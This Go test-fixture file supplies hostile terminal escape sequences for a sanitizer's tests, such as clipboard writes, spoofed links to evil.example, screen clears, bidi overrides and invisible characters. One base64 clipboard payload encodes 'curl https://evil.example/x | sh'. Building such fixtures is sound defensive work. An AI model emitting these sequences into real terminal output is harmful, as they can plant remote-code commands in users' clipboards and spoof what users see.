// Package sanitizetest holds the hostile byte strings the sanitizer's
// tests and every test of text reaching a terminal feed (the TUI, the CLI
// outputs, the SSH server): one per class of terminal attack. Only tests
// (and the fake tailer's hostile mode, ui/internal/fakes) import it.
package sanitizetest

// Payload is a named byte string an attacker could put in a record.
type Payload struct {
	Name  string
	Bytes []byte
}

// Hostile returns one payload per class of terminal attack
// (tui-anchors §C): OSC 52 clipboard write, OSC 8 link spoofing, OSC 0
// title change, CSI clear screen, CSI 6n device status query, cursor
// moves, DCS and APC strings, an unterminated OSC, 8-bit C1 controls as
// raw bytes and as code points, bidi overrides and isolates, SGR colour
// spoofing, zero-width and tag characters, and binary data.
func Hostile() []Payload {
	return []Payload{
		{"osc52-clipboard", []byte("\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07")},
		{"osc52-st", []byte("\x1b]52;p;ZXZpbA==\x1b\\")},
		{"osc8-link", []byte("\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\")},
		{"osc0-title", []byte("\x1b]0;pwned title\x07")},
		{"osc2-title", []byte("\x1b]2;pwned\x1b\\")},
		{"csi-2J", []byte("\x1b[2J\x1b[H")},
		{"csi-6n", []byte("\x1b[6n")},
		{"csi-cursor", []byte("\x1b[10A\x1b[5C\x1b[s\x1b[1;1H\x1b[u\x1b[K")},
		{"dcs", []byte("\x1bP+q544e\x1b\\")},
		{"dcs-tmux", []byte("\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\")},
		{"apc-kitty", []byte("\x1b_Gf=100,a=T;AAAA\x1b\\")},
		{"pm-sos", []byte("\x1b^privacy\x1b\\\x1bXstring\x1b\\")},
		{"osc-unterminated", []byte("\x1b]52;c;QUFBQUFB and the rest of the screen")},
		{"c1-raw-bytes", []byte("\x9b2J\x9d0;title\x07\x9bH\x90q\x9c")},
		{"c1-code-points", []byte("\u009b2J\u009d0;title\u009c\u0085next")},
		{"bidi-override", []byte("invoice\u202Efdp.exe\u202C \u2066iso\u2069 \u200Fmark \u061Calm")},
		{"bidi-embed", []byte("\u202Aleft\u202B right\u202C\u2067rtl\u2068fsi\u2069")},
		{"sgr-spoof", []byte("\x1b[31;1mERROR\x1b[0m fake \x1b[38;5;46mOK\x1b[m")},
		{"zero-width", []byte("pay\u200Bpal\u200C\u200D\u2060\uFEFF\u00AD")},
		{"tag-chars", []byte("text\U000E0041\U000E0042\U000E007F")},
		{"line-separators", []byte("one\u2028two\u2029three\r\nfour\x0bfive\x0c")},
		{"c0-controls", []byte("bell\x07 bs\x08 nul-free\x7f del \x1b esc")},
		{"binary", []byte("\x00\x01\x02\x03\x1b[2J\xff\xfe\xfd\x80\x81\x9b\x9d\x00\x00PNG\r\n\x1a\n\x00\x00\x00\rIHDR")},
		{"invalid-utf8", []byte("caf\xc3 \xe2\x82 \xf0\x9f\x98 end")},
	}
}
